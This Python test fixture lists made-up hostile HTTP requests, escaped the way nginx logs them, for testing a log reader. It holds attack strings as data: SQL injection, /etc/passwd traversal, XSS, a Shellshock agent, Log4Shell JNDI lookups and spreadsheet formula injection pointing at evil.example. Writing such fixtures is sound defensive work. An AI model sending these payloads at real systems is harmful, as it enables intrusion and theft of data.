"""Requests no browser sends, as nginx writes them; harmless here, and a trial for whatever reads logs."""

from dataclasses import dataclass


def nginx_escape(value: bytes) -> str:
    r"""Escape as nginx does in a log by default: `"`, `\`, control bytes, and bytes above 0x7E become `\xHH`.

    Source: ngx_http_log_escape in nginx's ngx_http_log_module.c.
    """
    return "".join(chr(byte) if 0x20 <= byte <= 0x7E and byte not in b'"\\' else f"\\x{byte:02X}" for byte in value)


@dataclass(frozen=True)
class Hostile:
    """One made-up attack: the request line, user agent, referrer and cookie as sent, and the answer's status and size."""

    request: bytes
    status: int
    size_bytes: int
    agent: bytes = b"Mozilla/5.0 (Windows NT 6.1; WOW64; rv:38.0) Gecko/20100101 Firefox/38.0"
    referrer: bytes = b"-"
    cookie: bytes = b"-"


HOSTILES = (
    Hostile(b"GET /search?q=%27%20OR%201%3D1%20-- HTTP/1.1", 200, 5120),
    Hostile(b"GET /contents/../../../../etc/passwd HTTP/1.1", 400, 150),
    Hostile(b"GET /contents/%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1", 404, 1245),
    Hostile(b'GET /search?q="><script>alert(1)</script> HTTP/1.1', 200, 5211, referrer=b'http://evil.example/"><b>'),
    Hostile(b"POST /login HTTP/1.1", 403, 310, agent=b"() { :; }; /bin/echo demo", cookie=b"pc_member=' OR '1'='1"),
    Hostile(
        b"GET / HTTP/1.1", 200, 8123, agent=b"${jndi:ldap://evil.example/a}", referrer=b"${jndi:ldap://evil.example/b}"
    ),
    Hostile(b"GET / HTTP/1.1", 200, 8123, agent=b"=cmd|' /C calc'!A0", referrer=b'=HYPERLINK("http://evil.example")'),
    Hostile(b"GET /wp-login.php HTTP/1.1", 404, 1245),
    Hostile(b"GET /phpmyadmin/index.php?lang=en HTTP/1.1", 404, 1245),
    Hostile("GET /search?q=한글 그대로 HTTP/1.1".encode(), 400, 150),
    Hostile(b"GET /contents/\xff\xfe\x00 HTTP/1.1", 400, 150, agent=b"demo \xc3\x28 agent"),
    Hostile(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x22\x5c", 400, 150, agent=b"-"),
    Hostile(b"GET http://other.example/ HTTP/1.1", 404, 1245),
    Hostile(b"OPTIONS * HTTP/1.0", 405, 150),
    Hostile(b"PROPFIND / HTTP/1.1", 405, 150),
    Hostile(b"GET /", 400, 150, agent=b"-"),
    Hostile(b"GARBAGE", 400, 150, agent=b"-"),
    Hostile(b"-", 408, 0, agent=b"-"),
    Hostile(b"GET /login?next=//evil.example HTTP/1.1", 302, 138, cookie=b'pc_member="quoted\\"; x=\x01\x02'),
    Hostile(b"GET /" + b"A" * 900 + b" HTTP/1.1", 414, 170),
)
